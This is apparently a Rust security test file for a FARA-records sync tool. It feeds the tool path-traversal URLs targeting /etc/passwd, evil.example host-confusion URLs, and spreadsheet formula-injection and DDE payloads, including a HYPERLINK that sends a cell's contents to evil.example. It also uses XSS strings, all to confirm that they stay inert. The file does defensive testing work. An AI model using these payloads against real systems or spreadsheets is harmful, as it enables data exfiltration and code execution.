//! Hostile input: what DOJ's files or a scraped page could carry, on purpose or by accident.
//!
//! - document URLs with path traversal, odd characters, other schemes and other hosts: never
//!   fetched off the FARA site, never a request outside `/docs/`, never a file outside the
//!   document store;
//! - formulas, HTML and script in every text field: inert in CSV export (a cell starting with
//!   `=`, `+`, `-`, `@`, tab or CR gets a leading `'`, see `faralink::text::csvsafe`), exact in JSON;
//! - oversized fields: loaded or rejected with a reason, never a crash.
//!
//! Still to extend when those commands land: `show --markdown` (Markdown escaping), `serve`
//! (HTML escaping of the same rows) and `search` (FTS5 syntax in queries).

use std::path::Path;
use std::time::Duration;

use crate::common::*;

fn sync(db: &Path, server: &MirrorServer, extra: &[&str]) -> assert_cmd::assert::Assert {
    faralink(db)
        .args(["--fara-url", &server.base_url(), "--rate", "1000/1", "sync"])
        .args(extra)
        .timeout(Duration::from_secs(180))
        .assert()
}

/// Every file under `dir`, relative.
fn files_under(dir: &Path) -> Vec<String> {
    let mut out = Vec::new();
    let mut stack = vec![dir.to_path_buf()];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap() {
            let e = e.unwrap();
            if e.file_type().unwrap().is_dir() {
                stack.push(e.path());
            } else {
                out.push(e.path().strip_prefix(dir).unwrap().display().to_string());
            }
        }
    }
    out.sort();
    out
}

#[test]
fn hostile_document_urls_are_never_fetched_off_site_or_outside_docs() {
    let tmp = tempfile::tempdir().unwrap();
    // A second server stands for "another host": it must never see a request, even when the
    // listing names it by address.
    let elsewhere = MirrorServer::start(&fixtures_mirror());
    let other = format!("http://127.0.0.1:{}", elsewhere.addr.port());
    let hostile = [
        "https://efile.fara.gov/docs/../../etc/passwd".to_string(),
        "https://efile.fara.gov/docs/%2e%2e/%2e%2e/etc/passwd".to_string(),
        "https://efile.fara.gov/docs/..%2f..%2fetc%2fpasswd".to_string(),
        "https://efile.fara.gov/docs/..%5c..%5cwindows%5cwin.ini".to_string(),
        "https://efile.fara.gov/docs/sub/dir/6766-Exhibit-AB-20191211-1.pdf".to_string(),
        "https://efile.fara.gov/docs/a%00b.pdf".to_string(),
        "https://efile.fara.gov/docs/<script>alert(1)</script>.pdf".to_string(),
        "https://efile.fara.gov/docs/ñame with spaces.pdf".to_string(),
        "https://efile.fara.gov/docs/".to_string(),
        "https://efile.fara.gov@evil.example/docs/6766-Exhibit-AB-20191211-1.pdf".to_string(),
        "https://evil.example/docs/6766-Exhibit-AB-20191211-1.pdf".to_string(),
        "https://evil.example#@efile.fara.gov/docs/6766-Exhibit-AB-20191211-1.pdf".to_string(),
        format!("{other}/docs/6766-Exhibit-AB-20191211-1.pdf"),
        "file:///etc/passwd".to_string(),
        "javascript:alert(1)//efile.fara.gov/docs/x.pdf".to_string(),
        "//efile.fara.gov/docs/6766-Exhibit-AB-20191211-1.pdf".to_string(),
    ];
    let rows: String = hostile
        .iter()
        .enumerate()
        .map(|(i, url)| {
            format!(
                "\"12/{:02}/2019\",\"CLS Strategies\",\"6766\",\"Exhibit AB\",\"\",\"Plurinational State of Bolivia\",\"BOLIVIA\",\"{}\"\n",
                i + 1,
                url.replace('"', "\"\"")
            )
        })
        .collect();
    let mirror = mirror_with_rows(tmp.path(), "FARA_All_RegistrantDocs.csv", &rows);
    let server = MirrorServer::start(&mirror);
    let dbdir = tmp.path().join("db");
    std::fs::create_dir_all(&dbdir).unwrap();
    let db = dbdir.join("f.db");
    sync(&db, &server, &["--only", "fara"]).success();
    server.clear_seen();
    let out = sync(&db, &server, &["--only", "documents"]);
    let stdout = stdout_of(&out.success());

    assert!(elsewhere.seen().is_empty(), "{:?}", elsewhere.seen());
    for s in server.seen() {
        let p = &s.path;
        assert!(
            p.starts_with("/docs/") && !p.contains("..") && !p["/docs/".len()..].contains('/'),
            "requested {p}"
        );
        assert!(!p.to_ascii_lowercase().contains("%2e"), "requested {p}");
        assert!(!p.to_ascii_lowercase().contains("passwd"), "requested {p}");
    }
    let conn = open(&db);
    for url in &hostile {
        // Whatever the URL parser made of it, the row is there and was not fetched.
        let status: Option<String> = conn
            .query_row("SELECT status FROM documents WHERE url = ?1", [url], |r| {
                r.get(0)
            })
            .ok();
        match status.as_deref() {
            Some("skipped" | "not_online") => {}
            // Rejected by the loader (not a URL at all): with a reason, not dropped.
            None => assert_eq!(
                count(
                    &conn,
                    &format!(
                        "SELECT count(*) FROM rejects WHERE source = 'fara:registrant_docs' AND raw LIKE '%{}%'",
                        url.replace('\'', "''").replace('%', "_")
                    )
                ),
                1,
                "{url} neither loaded nor rejected: {stdout}"
            ),
            Some(other) => panic!("{url}: status {other}: {stdout}"),
        }
    }
    // Nothing was written outside the document store, and the store holds PDFs by hash only.
    // The one other file is the mirror host's shared rate window (HOME is this directory):
    // none for the hosts the hostile URLs name, which were never asked.
    let window = format!(
        ".cache/faralink/hosts/{}",
        server
            .base_url()
            .trim_start_matches("http://")
            .replace(':', "_")
    );
    for f in files_under(&dbdir) {
        assert!(
            f.starts_with("f.db")
                || f == window
                || f.starts_with("documents/")
                    && f.ends_with(".pdf")
                    && f.len() == "documents/xx/".len() + 64 + 4,
            "unexpected file {f}"
        );
    }
}

/// A registrant whose every text field is a formula, markup or script (the file has ten
/// columns: number, two dates and seven texts), plus one with a 2 MB name.
fn hostile_registrants() -> String {
    let fields = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "<script>alert(document.cookie)</script>",
        "\t=1+1",
        "<img src=x onerror=alert(1)> [x](javascript:alert(1)) **bold** | pipe |",
    ];
    let q = |s: &str| format!("\"{}\"", s.replace('"', "\"\""));
    let mut rows = format!(
        "\"9001\",\"01/01/2020\",\"\",{},{},{},{},{},{},{}\n",
        q(fields[0]),
        q(fields[1]),
        q(fields[2]),
        q(fields[3]),
        q(fields[4]),
        q(fields[5]),
        q(fields[6]),
    );
    rows.push_str(&format!(
        "\"9002\",\"01/01/2020\",\"\",\"{}\",\"\",\"\",\"\",\"\",\"\",\"\"\n",
        "Oversized Name ".repeat(140_000)
    ));
    rows
}

#[test]
fn formulas_and_markup_in_fields_are_inert_in_csv_and_exact_in_json() {
    let tmp = tempfile::tempdir().unwrap();
    let mirror = mirror_with_rows(
        tmp.path(),
        "FARA_All_Registrants.csv",
        &hostile_registrants(),
    );
    let db = tmp.path().join("f.db");
    faralink(&db)
        .args(["-q", "sync", "--only", "fara", "--from"])
        .arg(&mirror)
        .timeout(Duration::from_secs(180))
        .assert()
        .success();
    let conn = open(&db);
    // The row landed as DOJ wrote it (the database keeps data exact).
    let name: String = conn
        .query_row(
            "SELECT name FROM registrants WHERE registration_number = 9001",
            [],
            |r| r.get(0),
        )
        .unwrap();
    assert!(name.starts_with("=HYPERLINK"), "{name}");
    // The oversized one: loaded whole or rejected with a reason, never lost silently.
    let big = count(
        &conn,
        "SELECT count(*) FROM registrants WHERE registration_number = 9002 AND length(name) > 2000000",
    ) + count(
        &conn,
        "SELECT count(*) FROM rejects WHERE source = 'fara:registrants' AND raw LIKE '\"9002\"%'",
    );
    assert_eq!(big, 1);
    drop(conn);

    // CSV: no cell of any exported row starts a formula.
    let out = faralink(&db)
        .args(["export", "registrants"])
        .assert()
        .success();
    let csv_text = stdout_of(&out);
    let mut r = csv::Reader::from_reader(csv_text.as_bytes());
    let mut seen_9001 = false;
    for rec in r.records() {
        let rec = rec.unwrap();
        for cell in rec.iter() {
            // Numbers are numbers (a negative row hash stays -37...).
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || cell.parse::<f64>().is_ok(),
                "formula cell {cell:?} in {rec:?}"
            );
        }
        if rec.get(0) == Some("9001") {
            seen_9001 = true;
            let joined = rec.iter().collect::<Vec<_>>().join("|");
            for want in [
                "'=HYPERLINK(",
                "'+1+cmd",
                "'-2+3",
                "'@SUM",
                "'=1+1", // the loader trims the tab; the rest is still a formula
                "<script>alert(document.cookie)</script>",
            ] {
                assert!(joined.contains(want), "{want:?} not in {joined}");
            }
        }
    }
    assert!(seen_9001);

    // JSON is data: exact, no quote added.
    let out = faralink(&db)
        .args(["export", "registrants", "--format", "json"])
        .assert()
        .success();
    let rows: Vec<serde_json::Value> = serde_json::from_str(&stdout_of(&out)).unwrap();
    let row = rows
        .iter()
        .find(|r| r["registration_number"] == 9001)
        .unwrap();
    assert_eq!(
        row["name"],
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"
    );

    // Markdown for a memo: no live HTML, no link or emphasis made out of a scraped field.
    let out = faralink(&db)
        .args(["show", "9001", "--markdown"])
        .assert()
        .success();
    let memo = stdout_of(&out);
    assert!(memo.contains("&lt;script&gt;"), "{memo}");
    for live in ["<script", "<img", "[x](javascript:", "**bold**"] {
        assert!(
            !memo.contains(live),
            "{live:?} is live in the memo:\n{memo}"
        );
    }
}

#[test]
fn formulas_in_an_imported_takedown_are_inert_in_csv_export() {
    let tmp = tempfile::tempdir().unwrap();
    let db = tmp.path().join("f.db");
    let file = tmp.path().join("evil.csv");
    std::fs::write(
        &file,
        "takedown_id,platform,announced_on,network_name,attributed_to,origin_countries,target_countries,fb_accounts,fb_pages,fb_groups,ig_accounts,other_accounts,followers,ad_spend_usd,attribution_text,summary,source_url\n\
         evil-1,meta,2020-09-01,\"=HYPERLINK(\"\"http://evil.example\"\",\"\"x\"\")\",@attacker,US,US,1,,,,,,,\"-1+cmd|' /C calc'!A0\",\"<script>alert(1)</script>\",https://example.org/\n",
    )
    .unwrap();
    faralink(&db)
        .arg("takedowns")
        .arg("import")
        .arg(&file)
        .assert()
        .success();
    let out = faralink(&db)
        .args(["export", "takedowns"])
        .assert()
        .success();
    let text = stdout_of(&out);
    let mut r = csv::Reader::from_reader(text.as_bytes());
    let mut found = false;
    for rec in r.records() {
        let rec = rec.unwrap();
        for cell in rec.iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']) || cell.parse::<f64>().is_ok(),
                "formula cell {cell:?}"
            );
        }
        found |= rec
            .iter()
            .any(|c| c == "'=HYPERLINK(\"http://evil.example\",\"x\")");
    }
    assert!(found, "{text}");
}
